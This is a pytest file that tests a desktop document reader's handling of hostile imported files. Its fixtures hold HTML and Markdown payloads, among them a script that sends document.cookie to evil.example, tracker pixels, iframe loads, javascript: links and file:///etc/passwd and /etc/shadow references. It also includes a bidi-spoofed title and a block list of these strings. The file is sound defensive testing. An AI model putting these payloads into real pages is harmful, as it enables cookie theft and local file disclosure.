"""Hostile and huge documents open without freezing, fetching or reading anything outside."""

import socket
import sys
from pathlib import Path

import pytest

from tests.conftest import ROOT

HOSTILE_HTML = """<html><head><title>Field report</title>
<script>new Image().src = 'http://evil.example/?c=' + document.cookie</script>
<link rel="stylesheet" href="http://evil.example/style.css"></head>
<body><h1>Field report</h1>
<p>Families were evicted. <img src="http://tracker.example/pixel.gif" alt="photo">
<a href="file:///etc/passwd">local file</a> <a href="javascript:alert(1)">click me</a>
<a href="https://www.ohchr.org/en/countries/cambodia">OHCHR</a></p>
<iframe src="http://evil.example/frame"></iframe>
<object data="file:///etc/shadow"></object></body></html>"""

HOSTILE_MARKDOWN = """# Notes

Evidence: ![photo](http://tracker.example/p.png) and <img src="file:///etc/passwd">
[click](javascript:alert(1)) <script>alert(1)</script> [report](https://www.ohchr.org/)
"""


class Watch:
    """Records sockets and file opens while active (audit hooks cannot be removed)."""

    active = False
    events: list[tuple[str, str]] = []

    @classmethod
    def hook(cls, event: str, args: tuple) -> None:
        if not cls.active:
            return
        if event in ("socket.connect", "socket.bind", "socket.getaddrinfo", "urllib.Request"):
            cls.events.append((event, repr(args)))
        elif event == "open" and isinstance(args[0], (str, bytes, Path)):
            cls.events.append((event, str(args[0])))


sys.addaudithook(Watch.hook)


@pytest.fixture
def hostile_files(tmp_path):
    folder = tmp_path / "incoming"
    folder.mkdir()
    (folder / "report.html").write_text(HOSTILE_HTML)
    (folder / "notes.md").write_text(HOSTILE_MARKDOWN)
    (folder / "bidi.txt").write_text("Report \u202eCIGAM\u202c on evictions\n\nBody text.\n")
    paragraph = "Forced evictions continued in Phnom Penh and families said they had nowhere to go. " * 12
    (folder / "huge.txt").write_text("Huge report\n\n" + "\n\n".join([paragraph] * 5200) + "\n\nTHE END\n")
    (folder / "longline.txt").write_text("Long line\n\n" + "word " * 40_000 + "LASTWORD\n")
    return folder


def opened_outside(events, allowed: list[Path]) -> list[str]:
    outside = []
    for event, target in events:
        if event != "open":
            outside.append(f"{event} {target}")
        elif not any(Path(target).resolve().is_relative_to(root) for root in allowed):
            outside.append(target)
    return outside


def test_hostile_documents_fetch_and_read_nothing(window, qtbot, hostile_files, data_dir, archive_path,
                                                   monkeypatch):
    report = window.library.imports.import_files([hostile_files])
    assert len(report.imported) == 5 and not report.skipped
    window.library_panel.refresh()
    ids = {path.name: doc_id for path, doc_id in report.imported}

    def no_sockets(*args, **kwargs):
        raise AssertionError("a socket was created")

    monkeypatch.setattr(socket, "socket", no_sockets)
    Watch.events = []
    Watch.active = True
    refused = []
    try:
        for name in ("report.html", "notes.md", "bidi.txt", "huge.txt", "longline.txt"):
            assert window.open_document(ids[name])
            refused += window.reader.view.document().refused_resources
            window.reader.set_original(True)
            refused += window.reader.view.document().refused_resources
            window.reader.set_original(False)
            qtbot.wait(10)
    finally:
        Watch.active = False
    assert refused == []
    allowed = [data_dir.resolve(), archive_path.parent.resolve(), ROOT.resolve(),
               Path(sys.prefix).resolve(), Path(sys.base_prefix).resolve()]
    assert opened_outside(Watch.events, allowed) == []
    assert window.reader.view.refused_resources == []  # Qt never even asked for a resource


def test_html_import_shows_text_and_safe_links_only(window, hostile_files):
    [(_, doc_id)] = window.library.imports.import_files([hostile_files / "report.html"]).imported
    window.open_document(doc_id)
    text = window.reader.view.toPlainText()
    html = window.reader.view.document().toHtml()
    assert "Families were evicted." in text and "photo" in text
    for bad in ("evil.example", "tracker.example", "cookie", "/etc/passwd", "javascript", "<img", "iframe"):
        assert bad not in text and bad not in html
    assert "OHCHR (https://www.ohchr.org/en/countries/cambodia)" in text


def test_markdown_is_rendered_through_the_sanitiser(window, hostile_files):
    [(_, doc_id)] = window.library.imports.import_files([hostile_files / "notes.md"]).imported
    window.open_document(doc_id)
    html = window.reader.view.document().toHtml()
    for bad in ("<img", "tracker.example", "javascript", "/etc/passwd", "<script"):
        assert bad not in html
    assert 'href="https://www.ohchr.org/"' in html


def test_clicking_a_link_offers_to_copy_never_opens(window, monkeypatch):
    from PySide6.QtCore import QUrl
    from PySide6.QtGui import QDesktopServices

    offered = []
    monkeypatch.setattr("desktop.ui.main_window.offer_to_copy_link", lambda parent, address: offered.append(address))
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: pytest.fail("a link was opened"))
    window.open_document("001_4d211d3b45014089")
    window.reader.view.anchorClicked.emit(QUrl("https://www.ohchr.org/"))
    assert offered == ["https://www.ohchr.org/"]
    assert window.reader.view.source().isEmpty()  # the browser did not navigate


def test_bidi_controls_in_titles_are_shown_visibly(window, hostile_files):
    [(_, doc_id)] = window.library.imports.import_files([hostile_files / "bidi.txt"]).imported
    window.library_panel.refresh()
    window.open_document(doc_id)
    assert "⟦RLO⟧CIGAM⟦PDF⟧" in window.windowTitle()
    row = window.library_panel.model.row_of(doc_id)
    assert window.library_panel.model.index(row, 0).data() == "Report ⟦RLO⟧CIGAM⟦PDF⟧ on evictions"
    assert window.reader.view.toPlainText().startswith("Report ⟦RLO⟧CIGAM⟦PDF⟧ on evictions")


def test_huge_documents_open_and_reach_their_end(window, hostile_files):
    report = window.library.imports.import_files([hostile_files / "huge.txt", hostile_files / "longline.txt"])
    for _, doc_id in report.imported:
        window.open_document(doc_id)
        bar = window.reader.view.verticalScrollBar()
        bar.setValue(bar.maximum())
        assert window.reader.view.toPlainText().rstrip().endswith(("THE END", "LASTWORD"))
    assert len(window.library.documents.get(report.imported[0][1]).text) > 5_000_000
